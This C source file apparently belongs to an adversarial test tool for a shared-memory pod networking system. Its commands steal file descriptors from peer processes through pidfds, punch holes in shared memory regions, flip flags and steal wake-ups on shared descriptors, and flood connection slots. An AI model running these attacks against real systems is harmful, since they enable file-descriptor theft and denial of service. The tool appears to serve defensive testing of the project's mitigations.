/* SPDX-License-Identifier: Apache-2.0 */
/* The hostile tool's attacks through what a connection hands a pod: fds
 * (theft through pidfds), shared memory whose backing goes away (holes
 * punched in a peer's or the agent's region), open file descriptions shared
 * with the victim (flags flipped, wake-ups stolen), direct slots re-offered
 * without end. docs/security.md says what stops each. */
#include "hostile.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>
#include <linux/falloc.h>

#include "hl_codec.h"
#include "hostlane_direct.h"
#include "shmq.h"

#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif

/* ---- fd theft ------------------------------------------------------------ */

/* Takes every fd it can out of the process behind pidfd @pfd. */
static unsigned steal_from(int pfd, char *what, size_t len)
{
	unsigned n = 0;

	for (int t = 0; t < 65536; t++) {
		int g = (int)syscall(SYS_pidfd_getfd, pfd, t, 0);

		if (g < 0)
			continue;
		if (n < 8) {
			size_t l = strlen(what);

			snprintf(what + l, len - l, "%s%s", l ? "," : "", hs_fd_kind(g));
		}
		n++;
		close(g);
	}
	return n;
}

/* steal IP PORT: every fd a connection hands over, and what a pidfd among
 * them (or one a socket among them names with SO_PEERPIDFD) gives away. */
int cmd_steal(int argc, char **argv)
{
	struct hs_ep e;
	struct hs_reply r;
	char kinds[512] = "", what[256] = "";
	unsigned pidfds = 0, stolen = 0;

	if (argc != 2)
		return -1;
	hs_open_or_die(&e);
	hs_connect_or_die(&e, argv[0], argv[1], &r);
	for (int i = 0; i < r.nfds; i++) {
		const char *k = hs_fd_kind(r.fds[i]);
		size_t l = strlen(kinds);
		int pfd = -1;
		socklen_t sl = sizeof(pfd);

		snprintf(kinds + l, sizeof(kinds) - l, "%s%s", l ? "," : "", k);
		if (!strcmp(k, "pidfd")) {
			pidfds++;
			stolen += steal_from(r.fds[i], what, sizeof(what));
		} else if (!strcmp(k, "socket") &&
			   getsockopt(r.fds[i], SOL_SOCKET, SO_PEERPIDFD, &pfd, &sl) == 0 && pfd >= 0) {
			stolen += steal_from(pfd, what, sizeof(what));
			close(pfd);
		}
	}
	printf("fds %d\nkinds %s\npidfds %u\nstolen %u\nwhat %s\n", r.nfds, kinds, pidfds, stolen,
	       what[0] ? what : "-");
	return 0;
}

/* ---- shared memory whose backing goes away ------------------------------- */

static int punch_all(int fd)
{
	struct stat st;

	if (fstat(fd, &st) < 0)
		return -errno;
	return fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, st.st_size) ? -errno : 0;
}

/* Wakes whatever sleeps on the wake fds of connection reply @r. */
static unsigned poke_all(const struct hs_reply *r)
{
	unsigned n = 0;

	for (int i = 1; i < r->nfds; i++) {
		const char *k = hs_fd_kind(r->fds[i]);

		if (!strcmp(k, "eventfd") || !strcmp(k, "socket")) {
			hs_poke(r->fds[i]);
			n++;
		}
	}
	return n;
}

/* punch IP PORT [HOLD_MS]: holes in the region the connection came in,
 * then the listener is woken to touch it. */
int cmd_punch(int argc, char **argv)
{
	struct hs_ep e;
	struct hs_reply r;
	unsigned ms = argc > 2 ? (unsigned)atoi(argv[2]) : 2000;
	int rc;

	if (argc < 2)
		return -1;
	hs_open_or_die(&e);
	hs_connect_or_die(&e, argv[0], argv[1], &r);
	rc = punch_all(r.fds[0]);
	printf("punched %s\n", rc ? strerror(-rc) : "ok");
	printf("poked %u\n", poke_all(&r));
	fflush(stdout);
	hs_hold(ms / 2);
	poke_all(&r);
	hs_hold(ms / 2);
	return 0;
}

/* punch-agent IP PORT IP2 PORT2: a hole in the region of a first
 * connection, a second connection (to another listener process) that takes
 * the agent's next page, then requests that make the monitor touch the
 * first region again (CONN_CLOSE of its slot, a new CONNECT). */
int cmd_punch_agent(int argc, char **argv)
{
	struct hs_ep e;
	struct hs_reply r1, r2, r3;
	struct hl_proto_msg req;
	int rc;

	if (argc != 4)
		return -1;
	hs_open_or_die(&e);
	hs_connect_or_die(&e, argv[0], argv[1], &r1);
	rc = punch_all(r1.fds[0]);
	printf("punched %s\n", rc ? strerror(-rc) : "ok");
	rc = hs_connect(&e, argv[2], (uint16_t)atoi(argv[3]), &r2);
	printf("second %s\n", rc ? strerror(-rc) : r2.m.hdr.status ? strerror(-r2.m.hdr.status) : "ok");
	hl_proto_init(&req, HL_POD_OP_CONN_CLOSE, 0);
	req.u.conn_close.region_id = r1.m.u.conn.region_id;
	req.u.conn_close.pair = r1.m.u.conn.pair;
	req.u.conn_close.side = 0;
	rc = hs_call(&e, &req, &r3);
	printf("close %s\n", rc ? strerror(-rc) : r3.m.hdr.status ? strerror(-r3.m.hdr.status) : "ok");
	rc = hs_connect(&e, argv[0], (uint16_t)atoi(argv[1]), &r3);
	printf("again %s\n", rc ? strerror(-rc) : r3.m.hdr.status ? strerror(-r3.m.hdr.status) : "ok");
	return 0;
}

/* ---- open file descriptions shared with the victim ------------------------ */

static void nonblock_off(int fd)
{
	int fl = fcntl(fd, F_GETFL);

	if (fl >= 0)
		fcntl(fd, F_SETFL, fl & ~O_NONBLOCK);
}

/* Empties eventfd (or socket) @fd without ever blocking. */
static void drain(int fd)
{
	uint64_t v;
	struct iovec iov = { &v, sizeof(v) };

	for (int i = 0; i < 64; i++)
		if (preadv2(fd, &iov, 1, -1, RWF_NOWAIT) <= 0 &&
		    recv(fd, &v, sizeof(v), MSG_DONTWAIT) <= 0)
			break;
}

/*
 * flagflip IP PORT MS: clears O_NONBLOCK on every fd the connection
 * brought, fills every eventfd the victim writes to, makes the victim
 * answer (so it writes one), and for MS steals the victim's wake-ups (poke
 * then drain: it wakes to an empty counter).
 */
int cmd_flagflip(int argc, char **argv)
{
	static const char ping[] = "*1\r\n$4\r\nPING\r\n";
	struct hs_ep e;
	struct hs_reply r;
	struct shmq_region *g;
	struct shmq_ep *ep = NULL;
	unsigned ms, flipped = 0, rounds = 0;
	uint64_t end, full = UINT64_C(0xfffffffffffffffe);
	int own = -1;

	if (argc != 3)
		return -1;
	ms = (unsigned)atoi(argv[2]);
	hs_open_or_die(&e);
	hs_connect_or_die(&e, argv[0], argv[1], &r);
	for (int i = 1; i < r.nfds; i++) {
		const char *k = hs_fd_kind(r.fds[i]);

		if (!strcmp(k, "eventfd") || !strcmp(k, "socket") || !strcmp(k, "pipe")) {
			nonblock_off(r.fds[i]);
			flipped++;
		}
	}
	/* This side's wake fd of the connection's slot: the victim writes it. */
	if (r.m.u.conn.flags & HL_CONN_F_SLOT)
		own = r.fds[2 + 2 * r.m.u.conn.pair];
	else
		own = r.fds[1];
	if (!strcmp(hs_fd_kind(own), "eventfd")) {
		drain(own);
		if (write(own, &full, sizeof(full)) < 0)
			printf("fill %s\n", strerror(errno));
	}
	g = shmq_region_map(r.fds[0]);
	if (g)
		ep = shmq_ep_attach(g, r.m.u.conn.pair, 0);
	if (ep) {
		/* A request, and "this side sleeps": its answer wakes us. */
		shmq_write(ep, ping, sizeof(ping) - 1);
		shmq_arm(ep, SHMQ_POLLIN);
	}
	printf("flipped %u\nrequest %s\n", flipped, ep ? "sent" : "none");
	fflush(stdout);
	poke_all(&r);
	end = hs_now_ms() + ms;
	while (hs_now_ms() < end) {
		for (int i = 1; i < r.nfds; i++)
			if (r.fds[i] != own && !strcmp(hs_fd_kind(r.fds[i]), "eventfd")) {
				hs_poke(r.fds[i]);
				drain(r.fds[i]);
			}
		rounds++;
		poll(NULL, 0, 1);
	}
	printf("rounds %u\n", rounds);
	/* Leave the ring as it is for the victim: detach, not close. */
	if (ep)
		shmq_ep_detach(ep);
	if (g)
		shmq_region_close(g);
	return 0;
}

/* ---- direct connections offered without end ------------------------------ */

/* dflood IP PORT MS: after a first (direct) connection, offers every other
 * slot of the region again and again for MS, ringing the doorbell. */
int cmd_dflood(int argc, char **argv)
{
	struct hs_ep e;
	struct hs_reply r;
	struct shmq_region *g;
	struct hl_direct_blk *b;
	uint64_t end, offers = 0, taken = 0;
	uint16_t port, cport = 41000;
	int bell;

	if (argc != 3)
		return -1;
	port = (uint16_t)atoi(argv[1]);
	hs_open_or_die(&e);
	hs_connect_or_die(&e, argv[0], argv[1], &r);
	if (!(r.m.u.conn.flags & HL_CONN_F_DIRECT)) {
		printf("direct no\n");
		return 0;
	}
	bell = r.fds[2 + 2 * r.m.u.conn.slots];  /* then, v5, the grant */
	g = shmq_region_map(r.fds[0]);
	b = g ? shmq_region_tail(g, HL_DIRECT_BLK) : NULL;
	if (!b) {
		printf("direct unmappable\n");
		return 0;
	}
	printf("direct yes\n");
	fflush(stdout);
	end = hs_now_ms() + (unsigned)atoi(argv[2]);
	while (hs_now_ms() < end) {
		for (uint32_t k = 0; k < r.m.u.conn.slots; k++) {
			uint64_t v = atomic_load(&b->ann[k]);

			if (k == r.m.u.conn.pair)
				continue;
			taken += HL_ANN_STATE(v) == HL_ANN_TAKEN;
			shmq_pair_init(g, k, SHMQ_MODE_STREAM);
			atomic_store(&b->ann[k], HL_ANN(HL_ANN_OFFERED, cport++, port));
			offers++;
		}
		hs_poke(bell);
	}
	printf("offers %llu\ntaken %llu\n", (unsigned long long)offers, (unsigned long long)taken);
	return 0;
}
